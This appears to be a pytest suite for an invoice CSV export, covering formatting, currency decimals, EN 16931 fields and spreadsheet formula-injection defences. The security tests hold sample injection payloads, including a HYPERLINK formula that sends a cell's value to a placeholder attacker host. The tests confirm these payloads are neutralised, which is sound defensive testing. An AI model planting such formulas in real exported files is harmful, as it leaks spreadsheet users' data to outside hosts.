"""The CSV rendering, read back with the csv module: the Document's numbers, RFC 4180, inert text."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from invoices.document.model import Adjustment, Document, RenderOptions
from invoices.document.validation import read_request
from invoices.einvoice.units import unit_code_of_text
from invoices.renderers.cells import inert_text
from invoices.renderers.csv import COLUMNS, CONTENT_TYPE, render_csv
from tests.invoices.en16931_samples import credit_note_document, jpy_document, long_document, rich_document
from tests.payloads import sample_payload, without_totals


def render(payload: dict[str, Any]) -> tuple[Document, bytes, list[dict[str, str]]]:
    options, document = read_request(payload)
    content = render_csv(document, options).content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))
    return document, content, rows


def of_type(rows: list[dict[str, str]], row_type: str) -> list[dict[str, str]]:
    return [row for row in rows if row["row_type"] == row_type]


@pytest.fixture(scope="module")
def sample() -> tuple[Document, bytes, list[dict[str, str]]]:
    return render(sample_payload())


def test_rendered_file(sample_document):
    rendered = render_csv(sample_document, RenderOptions(format="csv"))
    assert (rendered.filename, rendered.content_type) == ("INV-2026-0042.csv", CONTENT_TYPE)


def test_rfc4180_crlf_utf8_without_bom(sample):
    _, content, _ = sample
    assert not content.startswith(b"\xef\xbb\xbf")
    assert content.startswith(",".join(COLUMNS).encode() + b"\r\n")
    assert content.endswith(b"\r\n")
    assert b'"Backup storage\nNovember 2026"' in content  # quoted, with its own line break
    # header, lines, the two lines' discounts, the shipping charge, tax rates, total
    assert content.count(b"\r\n") == 1 + 3 + 2 + 1 + 2 + 1


def test_line_rows_hold_the_documents_numbers(sample):
    document, _, rows = sample
    lines = of_type(rows, "line")
    assert len(lines) == len(document.lines)
    for row, amount in zip(lines, document.lines, strict=True):
        line = amount.line
        assert row["invoice_number"] == "INV-2026-0042"
        assert (row["issue_date"], row["due_date"], row["currency"]) == ("2026-11-23", "2026-12-23", "EUR")
        assert (row["sku"], row["description"], row["unit"]) == (line.sku, line.description, line.unit)
        assert Decimal(row["quantity"]) == line.quantity
        assert Decimal(row["unit_price"]) == line.unit_price
        assert Decimal(row["discount_percent"]) == line.discount_percent
        assert Decimal(row["tax_rate"]) == line.tax_rate
        assert (row["discount"], row["net"]) == (str(amount.discount), str(amount.net))


def test_charge_tax_and_total_rows(sample):
    document, _, rows = sample
    assert [(r["description"], r["tax_rate"], r["net"]) for r in of_type(rows, "charge")] == [
        ("Shipping", "20", "15.00")
    ]
    assert [(r["tax_rate"], r["net"], r["tax"]) for r in of_type(rows, "tax")] == [
        (str(group.rate), str(group.base), str(group.tax)) for group in document.totals.tax_groups
    ]
    (total,) = of_type(rows, "total")
    assert (total["net"], total["tax"], total["gross"]) == ("996.11", "193.72", "1189.83")


def test_numbers_are_machine_readable(sample):
    _, _, rows = sample
    assert [row["unit_price"] for row in of_type(rows, "line")] == ["500.00", "12.345", "39.90"]
    assert [row["quantity"] for row in of_type(rows, "line")] == ["2", "3.5", "1"]


def test_no_thousands_separators():
    line = {"description": "x", "quantity": "1000", "unit_price": "1234.56"}
    _, _, rows = render(without_totals(lines=[line], shipping=None))
    assert of_type(rows, "total")[0]["net"] == "1234560.00"


# The sample in other currencies: 3.5 x 12.345 = 43.2075 rounds to 43.21, 43.208 or 43.2075, and so on.
@pytest.mark.parametrize(("currency", "gross"), [("JPY", "1190"), ("KWD", "1189.840"), ("CLF", "1189.8388")])
def test_amounts_have_exactly_the_currencys_decimals(currency, gross):
    document, _, rows = render(without_totals(currency=currency))
    assert of_type(rows, "total")[0]["gross"] == gross == str(document.totals.gross)


@pytest.mark.security
def test_formula_payloads_are_prefixed_with_a_quote():
    payloads = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
    payload = without_totals(number="=1+1")
    for line, text in zip(payload["invoice"]["lines"], payloads, strict=False):
        line.update(sku=text[:64], description=text, unit="+1")
    _, _, rows = render(payload)
    for row, text in zip(of_type(rows, "line"), payloads, strict=False):
        assert (row["sku"], row["description"], row["unit"]) == ("'" + text[:64], "'" + text, "'+1")
    assert all(row["invoice_number"] == "'=1+1" for row in rows)


def test_quotes_commas_and_newlines_round_trip():
    description = 'He said "hi", then left\nsecond line'
    payload = without_totals()
    payload["invoice"]["lines"][0]["description"] = description
    _, _, rows = render(payload)
    assert of_type(rows, "line")[0]["description"] == description


@pytest.mark.security
@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1"])
def test_inert_text_prefixes_every_trigger(text):
    assert inert_text(text) == "'" + text


@pytest.mark.security
@pytest.mark.parametrize("text", ["", "plain", "1-2", " =1", "a=b"])
def test_inert_text_leaves_other_text_alone(text):
    assert inert_text(text) == text


def test_csv_and_xlsx_show_the_same_totals(sample_document):
    import openpyxl

    from invoices.i18n.labels import labels_for
    from invoices.renderers.xlsx import render_xlsx

    labels = labels_for(sample_document.data.locale)  # the XLSX's total labels are the invoice's words
    net, tax, gross = labels.net_total, labels.tax, f"{labels.total} (EUR)"
    rows = list(csv.DictReader(io.StringIO(render_csv(sample_document, RenderOptions()).content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(render_xlsx(sample_document, RenderOptions()).content)).active
    xlsx_totals = {
        sheet.cell(row, 7).value: Decimal(repr(sheet.cell(row, 8).value))
        for row in range(1, sheet.max_row + 1)
        if sheet.cell(row, 7).value in (net, tax, gross)
    }
    (total,) = of_type(rows, "total")
    assert xlsx_totals == {
        net: Decimal(total["net"]),
        tax: Decimal(total["tax"]),
        gross: Decimal(total["gross"]),
    }


# --- EN 16931 additions (issue 16) ---------------------------------------------------------------------

ORIGINAL_COLUMNS = (
    "row_type", "invoice_number", "issue_date", "due_date", "currency", "line_no", "sku", "description",
    "quantity", "unit", "unit_price", "discount_percent", "discount", "tax_rate", "net", "tax", "gross",
)  # fmt: skip


def rows_of(document: Document) -> list[dict[str, str]]:
    content = render_csv(document, RenderOptions(format="csv")).content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.fixture(scope="module")
def rich() -> tuple[Document, list[dict[str, str]]]:
    document = rich_document()
    return document, rows_of(document)


def test_the_original_columns_come_first_in_their_order():
    assert COLUMNS[: len(ORIGINAL_COLUMNS)] == ORIGINAL_COLUMNS
    assert len(set(COLUMNS)) == len(COLUMNS)


def test_row_types_come_in_order(rich):
    _, rows = rich
    assert [row["row_type"] for row in rows] == [
        "line", "line_allowance", "line_charge",
        "line", "line_allowance",
        "line", "line_charge",
        "line",
        "line",
        "allowance", "allowance", "charge",
        "tax", "tax", "tax", "tax",
        "total",
    ]  # fmt: skip


def test_line_rows_carry_codes_base_quantities_charges_and_categories(rich):
    document, rows = rich
    lines = of_type(rows, "line")
    for row, amount in zip(lines, document.lines, strict=True):
        line = amount.line
        assert row["unit"] == line.unit
        assert row["unit_code"] == (line.unit_code or unit_code_of_text(line.unit))
        assert Decimal(row["price_base_quantity"]) == line.price_base_quantity
        assert (row["discount"], row["charge"], row["net"]) == tuple(
            str(value) for value in (amount.discount, amount.charge, amount.net)
        )
        assert (row["tax_category"], row["exemption_reason"]) == (line.tax_category, line.exemption_reason)
    assert lines[3]["exemption_reason_code"] == "VATEX-EU-AE"


def test_each_line_adjustment_is_a_row_under_its_line(rich):
    _, rows = rich
    adjustments = [
        (r["row_type"], r["line_no"], r["description"], r["percent"], r["base"], r["reason_code"], r["net"])
        for r in rows
        if r["row_type"] in ("line_allowance", "line_charge")
    ]
    assert adjustments == [
        ("line_allowance", "1", "Volume discount", "10", "1187.50", "95", "118.75"),
        ("line_charge", "1", "Travel", "", "", "FC", "25.00"),
        ("line_allowance", "2", "Discount", "", "", "95", "7.50"),
        ("line_charge", "3", "Cutting to length", "5", "136.00", "CG", "6.80"),
    ]


def test_document_allowances_and_charges(rich):
    _, rows = rich
    found = [
        (r["row_type"], r["line_no"], r["description"], r["percent"], r["base"], r["tax_rate"], r["net"])
        for r in rows
        if r["row_type"] in ("allowance", "charge")
    ]
    assert found == [
        ("allowance", "1", "Early order", "2", "3206.55", "19", "64.13"),
        ("allowance", "2", "Loyalty", "", "", "19", "50.00"),
        ("charge", "1", "Shipping", "", "", "19", "15.00"),
    ]


def test_tax_rows_name_their_category_and_exemption(rich):
    document, rows = rich
    assert [
        (r["tax_category"], r["tax_rate"], r["net"], r["tax"], r["exemption_reason_code"])
        for r in of_type(rows, "tax")
    ] == [
        (g.category, str(g.rate), str(g.base), str(g.tax), g.exemption_reason_code)
        for g in document.totals.tax_groups
    ]


def test_the_total_row_holds_every_document_total(rich):
    _, rows = rich
    (total,) = of_type(rows, "total")
    columns = ("line_total", "discount", "charge", "net", "tax", "gross", "prepaid", "rounding", "payable")
    assert [total[c] for c in columns] == [
        "3206.55", "114.13", "15.00", "3107.42", "233.18", "3340.60", "1000.00", "-0.60", "2340.00",
    ]  # fmt: skip


def test_every_row_says_the_document_type_and_references(rich):
    _, rows = rich
    for row in rows:
        assert (row["document_type"], row["buyer_reference"], row["order_reference"]) == (
            "invoice",
            "04011000-12345-67",
            "PO-88213",
        )
        assert (row["period_start"], row["period_end"], row["delivery_date"]) == (
            "2026-11-01",
            "2026-11-30",
            "",
        )


def test_a_credit_note_names_the_invoice_it_corrects():
    rows = rows_of(credit_note_document())
    for row in rows:
        assert (row["document_type"], row["preceding_invoice"], row["preceding_invoice_date"]) == (
            "credit_note",
            "RE-2026-1187",
            "2026-11-30",
        )
        assert row["delivery_date"] == "2026-11-28"


def test_yen_amounts_have_no_decimals():
    (total,) = of_type(rows_of(jpy_document()), "total")
    assert (total["discount"], total["charge"], total["prepaid"], total["payable"]) == (
        "500",
        "931",
        "10000",
        "92783",
    )


@pytest.mark.security
def test_formula_payloads_in_new_text_columns_are_prefixed_with_a_quote():
    document = rich_document(
        buyer_reference="=1+1",
        order_reference="@x",
        allowances=(Adjustment(amount=Decimal(1), reason="-2+3", reason_code="+1", tax_rate=Decimal(19)),),
    )
    rows = rows_of(document)
    assert all((r["buyer_reference"], r["order_reference"]) == ("'=1+1", "'@x") for r in rows)
    (allowance,) = of_type(rows, "allowance")
    assert (allowance["description"], allowance["reason_code"]) == ("'-2+3", "'+1")


def test_three_hundred_lines_with_adjustments():
    document = long_document(300)
    rows = rows_of(document)
    assert len(of_type(rows, "line")) == 300
    assert len(of_type(rows, "line_allowance")) == 100
    assert len(of_type(rows, "line_charge")) == 60
    assert sum(Decimal(r["net"]) for r in of_type(rows, "line")) == document.totals.lines_net


def test_a_free_text_unit_has_the_code_the_e_invoices_write():
    payload = sample_payload(fmt="csv")
    payload["invoice"]["lines"] = [
        {"description": "Consulting", "quantity": "2", "unit": "h", "unit_price": "100.00"},
        {"description": "Licence", "quantity": "1", "unit": "Lizenz", "unit_price": "50.00"},
        {"description": "Cable", "quantity": "3", "unit": "MTR", "unit_price": "5.00"},
    ]
    payload["invoice"].pop("totals", None)
    _document, _content, rows = render(payload)
    assert [(row["unit"], row["unit_code"]) for row in of_type(rows, "line")] == [
        ("h", "HUR"),
        ("Lizenz", ""),
        ("MTR", "MTR"),
    ]
